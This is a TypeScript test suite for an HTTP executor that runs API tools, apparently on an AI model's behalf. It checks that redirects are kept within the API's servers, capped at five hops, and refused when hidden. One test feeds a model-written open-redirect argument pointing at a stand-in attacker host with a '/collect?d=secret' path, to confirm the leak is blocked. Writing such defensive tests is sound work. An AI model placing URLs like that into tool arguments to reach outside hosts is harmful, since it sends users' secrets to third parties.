import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { expectFailure, expectSuccess, httpTool, param } from '../../testing/http-test-api.ts';
import { type ReceivedRequest, startTestServer, type TestServer } from '../../testing/http-test-server.ts';
import type { Tool } from '../tool.ts';
import { createHttpExecutor } from './http-executor.ts';

let api: TestServer;
let attacker: TestServer;

/** Redirects of the test API: moved routes, one that leaves the base path, a loop. */
const MOVES: Record<string, [number, string]> = {
  '/v1/moved': [301, '/v1/here'],
  '/v1/see-other': [303, '/v1/here'],
  '/v1/temporary': [307, '/v1/here'],
  '/v1/out': [302, '/admin'],
  '/v1/loop': [302, '/v1/loop'],
};

/** An API with an open redirect (`/v1/go?to=`) and the moves above; anything else echoes the request. */
function route(request: ReceivedRequest, response: ServerResponse): void {
  const url = new URL(request.url, 'http://api.invalid');
  const move: [number, string] | undefined =
    url.pathname === '/v1/go' ? [307, url.searchParams.get('to') ?? '/'] : MOVES[url.pathname];
  if (move !== undefined) {
    response.writeHead(move[0], { location: move[1] });
    response.end();
    return;
  }
  response.writeHead(200, { 'content-type': 'application/json' });
  response.end(JSON.stringify({ method: request.method, path: url.pathname, body: request.body }));
}

beforeAll(async () => {
  api = await startTestServer(route);
  attacker = await startTestServer((_, response) => response.end('thanks'));
});
afterAll(async () => {
  await Promise.all([api.close(), attacker.close()]);
});
beforeEach(() => {
  api.received.length = 0;
  attacker.received.length = 0;
});

const signal = new AbortController().signal;
const tool = (name: string, method: string, path: string, extra: Parameters<typeof httpTool>[4] = {}): Tool =>
  httpTool(name, method, path, method === 'GET' ? [] : [param('note', 'body', { type: 'string' })], {
    servers: [`${api.origin}/v1`],
    ...extra,
  });

describe('redirects', () => {
  it('are not followed off the API servers, even to a host the model wrote into an open redirect', async () => {
    const go = httpTool('go', 'GET', '/go', [param('to', 'query', { type: 'string' }, true)], {
      servers: [`${api.origin}/v1`],
    });
    const execute = createHttpExecutor({ tools: [go] });
    const failed = expectFailure(
      await execute({ name: 'go', arguments: { to: `${attacker.origin}/collect?d=secret` } }, signal),
    );
    expect(failed.error).toBe(
      `Refused: the API redirected to ${attacker.origin}/collect, outside the servers of this API`,
    );
    expect(failed.status).toBe(307);
    expect(attacker.received).toEqual([]);
  });

  it('are not followed out of the base path on the same host', async () => {
    const execute = createHttpExecutor({ tools: [tool('out', 'GET', '/out')] });
    const failed = expectFailure(await execute({ name: 'out', arguments: {} }, signal));
    expect(failed.error).toBe(
      `Refused: the API redirected to ${api.origin}/admin, outside the servers of this API`,
    );
    expect(api.received.map((request) => request.url)).toEqual(['/v1/out']);
  });

  it('are followed within the servers as fetch does: 301 and 303 go on as GET, 307 keeps the method and body', async () => {
    const execute = createHttpExecutor({
      tools: [
        tool('moved', 'GET', '/moved'),
        tool('see', 'POST', '/see-other'),
        tool('keep', 'POST', '/temporary'),
      ],
      confirm: async () => true,
    });
    expect(expectSuccess(await execute({ name: 'moved', arguments: {} }, signal)).body).toMatchObject({
      method: 'GET',
      path: '/v1/here',
    });
    expect(expectSuccess(await execute({ name: 'see', arguments: { note: 'a' } }, signal)).body).toEqual({
      method: 'GET',
      path: '/v1/here',
      body: '',
    });
    const kept = expectSuccess(await execute({ name: 'keep', arguments: { note: 'b' } }, signal));
    expect(kept.body).toEqual({ method: 'POST', path: '/v1/here', body: '{"note":"b"}' });
    expect(kept.request?.url).toBe(`${api.origin}/v1/temporary`);
  });

  it('stop after 5 hops', async () => {
    const execute = createHttpExecutor({ tools: [tool('loop', 'GET', '/loop')] });
    expect(expectFailure(await execute({ name: 'loop', arguments: {} }, signal)).error).toBe(
      'Refused: more than 5 redirects',
    );
    expect(api.received).toHaveLength(6);
  });

  it('whose target the browser hides are refused, as they cannot be checked', async () => {
    const hidden = { type: 'opaqueredirect', status: 0, ok: false, headers: new Headers(), body: null };
    const execute = createHttpExecutor({
      tools: [tool('moved', 'GET', '/moved')],
      fetch: async () => hidden as unknown as Response,
    });
    expect(expectFailure(await execute({ name: 'moved', arguments: {} }, signal)).error).toBe(
      "Refused: the API answered with a redirect whose target the browser hides, so it cannot be checked against this API's servers; list the final URL in the document's servers",
    );
  });
});
